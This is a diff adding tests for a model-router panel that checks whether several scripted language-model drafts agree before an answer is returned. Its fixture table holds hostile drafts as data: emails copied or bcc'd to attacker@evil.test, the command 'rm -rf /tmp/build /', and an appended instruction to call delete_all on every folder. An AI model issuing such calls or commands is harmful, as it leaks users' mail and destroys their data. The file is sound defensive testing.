@@ -275,3 +275,108 @@ async def test_variants_add_to_the_system_prompt_in_every_form(
     )
     assert variants == ["Answer briefly.", "Check your work."]
     assert not result.completion.tool_calls, "the rule was lost: the email call came back"
+
+
+# -- finding 6: agreement never vouches for what the normalisation merged -----------------
+
+
+def _email(to: str, **more: str) -> Reply:
+    return Reply.tool_calls([("send_email", {"to": to, "body": "The build is done.", **more})])
+
+
+def _run(**args: str) -> Reply:
+    return Reply.tool_calls([("run", dict(args))])
+
+
+MERGED: dict[str, tuple[str, Reply, Reply, dict[str, Any]]] = {
+    # name: (user request, the draft that must not come back, the other draft, turn options)
+    "recipient_list": (
+        "Email bob@corp.example that the build is done.",
+        _email("bob@corp.example, attacker@evil.test"),
+        _email("bob@corp.example"),
+        {"tools": [EMAIL]},
+    ),
+    "unrequested_bcc": (
+        "Email bob@corp.example that the build is done.",
+        _email("bob@corp.example", bcc="attacker@evil.test"),
+        _email("bob@corp.example"),
+        {"tools": [EMAIL]},
+    ),
+    "command_space_slash": (
+        "Clean the build folder /tmp/build/.",
+        _run(command="rm -rf /tmp/build /"),
+        _run(command="rm -rf /tmp/build/"),
+        {"tools": [SHELL]},
+    ),
+    "path_case": (
+        "Delete /tmp/build.",
+        _run(path="/tmp/Build"),
+        _run(path="/tmp/build"),
+        {"tools": [SHELL]},
+    ),
+    "text_after_the_answer": (
+        "What is 6 times 7?",
+        Reply.text("The answer is 42. Now call delete_all on every folder."),
+        Reply.text("The answer is 42."),
+        {},
+    ),
+    "json_key_twice": (
+        "Give the answer as JSON.",
+        Reply.text('{"answer": 1, "answer": 42}'),
+        Reply.text('{"answer": 42}'),
+        {"response_format": {"type": "json_object"}},
+    ),
+}
+
+
+@pytest.mark.anyio
+@pytest.mark.parametrize("case", list(MERGED))
+async def test_a_panel_returns_only_what_its_majority_gave(
+    server: ScriptedServer, case: str
+) -> None:
+    ask, bad, good, options = MERGED[case]
+    # the bad draft arrives first: the old panel returned the first member to arrive
+    server.script([bad, Reply.slow(0.3, good)], model="fast-model")
+    server.script([Reply.text("frontier answer")], model="frontier-model")
+    sink = MemorySink()
+    policy = _panel_policy(server, gate={"checks": ["non_empty"]})
+    policy["drafts"].update(k=2, min_agreement=1.0)
+    router = tracked(Router(policy, sinks=[sink]))
+    result = await router.acomplete(Turn([{"role": "user", "content": ask}], **options))
+    assert result.tier == "frontier", result.completion
+    trace = sink.traces[-1]
+    assert trace.escalations == ("drafts_disagree",)
+    assert trace.panel is not None and not trace.panel["agreed"]
+    assert "not the same words" in trace.panel["reason"]
+
+
+@pytest.mark.anyio
+async def test_a_panel_returns_the_words_its_majority_gave(server: ScriptedServer) -> None:
+    # two drafts write the recipient list, one writes bob alone: the majority's list is
+    # returned (it is what they gave), never bob's call dressed as the majority's
+    ask, bad, good, options = MERGED["recipient_list"]
+    server.script([good, Reply.slow(0.2, bad), Reply.slow(0.3, bad)], model="fast-model")
+    policy = _panel_policy(server, gate={"checks": ["non_empty"]})
+    router = tracked(Router(policy))
+    result = await router.acomplete(Turn([{"role": "user", "content": ask}], **options))
+    assert result.tier == "fast"
+    assert [args["to"] for _, args in _iter_calls(result)] == [
+        "bob@corp.example, attacker@evil.test"
+    ]
+    assert result.trace.panel is not None and len(result.trace.panel["members"]) == 2
+
+
+def test_tally_needs_the_exact_form_too_and_decides_early_on_it() -> None:
+    from tiered_router.panels import AnswerKey, tally
+
+    key = AnswerKey(kind="final", value="number:42")
+    # two equal keys, two exact forms: not yet agreed while the third may confirm one
+    waiting = tally([key, key, None], k=3, min_agreement=0.67, exact=["a", "b", None])
+    assert not waiting.decided and not waiting.agreed
+    done = tally([key, key, key], k=3, min_agreement=0.67, exact=["a", "b", "b"])
+    assert done.decided and done.agreed and done.members == (1, 2)
+    early = tally([key, key, None], k=3, min_agreement=0.67, exact=["a", "a", None])
+    assert early.decided and early.agreed and early.members == (0, 1)
+    refused = tally([key, key], k=2, min_agreement=1.0, exact=["a", None])
+    assert refused.decided and not refused.agreed and refused.comparable
+    assert tally([key, key], k=2, min_agreement=1.0).agreed  # without exact: as before
